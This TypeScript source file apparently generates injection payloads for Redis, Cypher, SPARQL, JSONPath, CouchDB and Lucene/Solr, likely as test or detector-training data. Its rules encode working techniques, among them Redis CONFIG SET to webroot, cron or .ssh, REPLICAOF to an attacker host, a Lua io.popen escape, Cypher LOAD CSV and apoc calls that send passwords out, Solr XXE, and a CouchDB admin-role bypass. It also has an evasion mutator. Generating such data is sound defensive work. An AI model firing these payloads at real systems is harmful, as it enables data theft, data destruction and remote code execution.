/** Query languages of other stores: Redis, Cypher, CouchDB, SPARQL, Lucene inside Elasticsearch and JSONPath. */

import type { Family } from '../../family.ts';
import { characters, integer, LOWER_CASE, maybe, oneOf, type Rule, repeat, text, weighted } from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { attackerHost, capitals, fieldName, identifier, personName, sensitiveFile, token } from '../lexicon.ts';
import { familyOf } from '../places.ts';
import { anywhere } from '../surroundings.ts';

const redisCommand: Rule = oneOf(
  text`CONFIG SET ${oneOf('dir', 'dbfilename')} ${oneOf('/var/www/html', '/var/spool/cron/', '/root/.ssh/', text`${token}.php`, 'authorized_keys', '/tmp')}`,
  text`EVAL "return redis.call('${oneOf('KEYS', 'GET', 'CONFIG', 'FLUSHALL', 'SET')}'${repeat(text`,'${oneOf('*', 'session', 'GET', token)}'`, 0, 2)})" 0`,
  text`eval "${oneOf('dofile', 'loadstring')}('${sensitiveFile}')" 0`,
  'FLUSHALL',
  text`SLAVEOF ${attackerHost} ${integer(1024, 9999)}`,
  text`REPLICAOF ${attackerHost} ${integer(1024, 9999)}`,
  text`SET ${oneOf('session', 'user', 'admin', token)}:${integer(1, 999)} "${token}"`,
  text`MODULE LOAD /tmp/${token}.so`,
  text`MIGRATE ${attackerHost} 6379 "" 0 5000 KEYS ${token}`,
  text`SCRIPT LOAD "return redis.call('${oneOf('KEYS', 'FLUSHDB')}','*')"`,
  'CONFIG GET *',
  'BGREWRITEAOF',
  'DEBUG SEGFAULT',
);
const redis: Rule = oneOf(
  text`${repeat(redisCommand, 2, 4, oneOf('\r\n', '%0d%0a', '\\r\\n', ';'))}`,
  text`*${integer(1, 4)}\r\n$${integer(3, 9)}\r\n${oneOf('flushall', 'config', 'set', 'eval')}\r\n$${integer(1, 40)}\r\n${token}\r\n${maybe(redisCommand)}`,
  text`EVAL "local io_l = package.loadlib('/usr/lib/liblua5.1.so.0','luaopen_io'); local io = io_l(); local f = io.popen('${oneOf('id', 'whoami', 'uname')}', 'r'); return f:read('*a')" ${integer(0, 2)}`,
  text`${redisCommand}; ${redisCommand}`,
  text`${token}"\r\n${redisCommand}\r\n"`,
  text`redis.call('${oneOf('set', 'config', 'flushall', 'keys')}','${oneOf('*', token)}'${maybe(text`,'${token}'`)})`,
);

const variable: Rule = oneOf('n', 'm', 'u', 'a', 'x', characters(LOWER_CASE, 1, 3));
const nodeLabel: Rule = oneOf('User', 'Person', 'Account', 'Admin', 'Customer', 'Movie', 'Secret');
const cypherTail: Rule = oneOf(
  text`RETURN ${variable}`,
  text`DETACH DELETE ${variable}`,
  text`RETURN ${variable}.${oneOf('password', 'email', 'name', 'token')}`,
  text`SET ${variable}.${oneOf('role', 'admin')}='${oneOf('admin', 'true', '1')}'`,
  text`LOAD CSV FROM 'http${maybe('s')}://${attackerHost}/'+${variable}.${oneOf('password', 'name')} AS ${variable} RETURN ${variable}`,
);
const cypherMatch: Rule = text`MATCH (${variable}${maybe(text`:${nodeLabel}`)})${maybe(text`-[${variable}]->(${variable})`, 0.2)}`;
const cypherCall: Rule = oneOf(
  'CALL db.labels() YIELD label',
  'CALL dbms.procedures() YIELD name',
  'CALL db.propertyKeys() YIELD propertyKey',
  text`CALL apoc.load.${oneOf('json', 'xml', 'jdbc', 'csv')}('http://${attackerHost}/${token}') YIELD value`,
  text`CALL apoc.systemdb.graph() YIELD nodes`,
  text`CALL apoc.cypher.runFirstColumn("${cypherMatch} RETURN 1",{}) YIELD value`,
  'CALL dbms.listConfig() YIELD name, value',
  'CALL dbms.security.listUsers() YIELD username',
);
const cypherEnd: Rule = oneOf(
  ' //',
  '//',
  text` RETURN ${integer(0, 9)} //`,
  text` WITH ${integer(0, 9)} as ${variable} //`,
  '/*',
);
const quote: Rule = oneOf("'", '"', "'", "'}", "')", '"}', '`');
const cypher: Rule = oneOf(
  text`${quote} OR ${oneOf('1=1', "'a'='a'", 'true')} WITH ${integer(0, 9)} as ${variable} ${cypherMatch} ${cypherTail}${cypherEnd}`,
  text`${quote}) ${cypherMatch} ${cypherTail}${cypherEnd}`,
  text`${quote}) RETURN ${integer(0, 9)} UNION ${cypherMatch} ${cypherTail}${cypherEnd}`,
  text`${personName}${quote} WITH 1337 AS ${variable} ${cypherCall} ${cypherTail}${cypherEnd}`,
  text`${quote}}) ${cypherCall} LOAD CSV FROM 'http://${attackerHost}/'+${variable} AS ${variable} RETURN ${variable}${cypherEnd}`,
  text`${quote} RETURN ${variable} UNION ${cypherCall} ${cypherTail}${cypherEnd}`,
  text`${cypherMatch} DETACH DELETE ${variable}`,
  text`${quote} OR exists(${variable}.${oneOf('password', 'token', fieldName)}) ${cypherTail}${cypherEnd}`,
);

const sparql: Rule = oneOf(
  text`${quote} . ?s ?p ?o } #`,
  text`${quote}} UNION { ?s ?p ?o ${maybe(text`FILTER(regex(?p, '${oneOf('pass', 'mail', 'token')}')) `)}} #`,
  text`${personName}${quote} . ?x <${oneOf('http', 'https')}://${oneOf('xmlns.com/foaf/0.1/', 'example.org/')}${oneOf('mbox', 'password', 'name')}> ?${characters(LOWER_CASE, 1, 4)} . } #`,
  text`${quote} ; DROP ALL ; INSERT DATA { <urn:${token}> <urn:p> '${token}' } #`,
  text`} ; DELETE WHERE { ?${characters(LOWER_CASE, 1, 3)} ?p ?o } #`,
  text`SERVICE <http://${attackerHost}/sparql> { ?s ?p ?o }`,
);

const jsonPath: Rule = oneOf(
  text`')] | $..${oneOf('password', 'users[*]', '*')} | $[('`,
  text`' || '1'=='1')]${maybe('..*', 0.6)}`,
  text`${personName}')].${oneOf('password', 'token')}|$..[?(@.${identifier}=='`,
  text`x'||@.${oneOf('password', 'role', 'id')}||'x'=='`,
);

/** A second list of roles that the validation does not see, and a filter that fits every document. */
const couch: Rule = oneOf(
  text`{"type":"user","name":"${personName}","roles":["_admin"],"roles":[],"password":"${token}"}`,
  text`{"selector":{"_id":{"$gt":null}},"fields":["${oneOf('password', 'name', 'derived_key', 'salt')}"],"limit":${integer(100, 99999)}}`,
);

const search: Rule = oneOf(
  text`*:* OR ${oneOf('password', '_exists_:password', 'role')}:*${maybe(' AND NOT x:y')}`,
  text`" OR ${fieldName}:* OR "`,
  text`${personName}) OR (*:*) OR (x:y`,
  text`{"query":{"bool":{"should":[{"match_all":{}},{"wildcard":{"${oneOf('password', 'email', 'token')}":"*"}}],"minimum_should_match":0}}}`,
  text`"}},{"match_all":{}},{"term":{"${fieldName}":"${token}`,
  text`{!${oneOf('xmlparser', 'lucene', 'func')} v='<!DOCTYPE a SYSTEM "http://${attackerHost}/${token}"><a></a>'}`,
  text`${token}&shards=http://${attackerHost}/solr/${capitals}&qt=${oneOf('/config', '/update', '/dataimport')}`,
);

/** Injection into the languages of other stores. */
export const OTHER_STORE_FAMILIES: readonly Family[] = [
  familyOf('query-injection', 'redis', evade(redis), undefined, 0.6),
  familyOf('query-injection', 'cypher', anywhere(cypher), undefined, 0.6),
  familyOf(
    'query-injection',
    'other-languages',
    anywhere(weighted([3, sparql], [2, jsonPath], [2, couch], [2, search])),
    undefined,
    0.5,
  ),
];
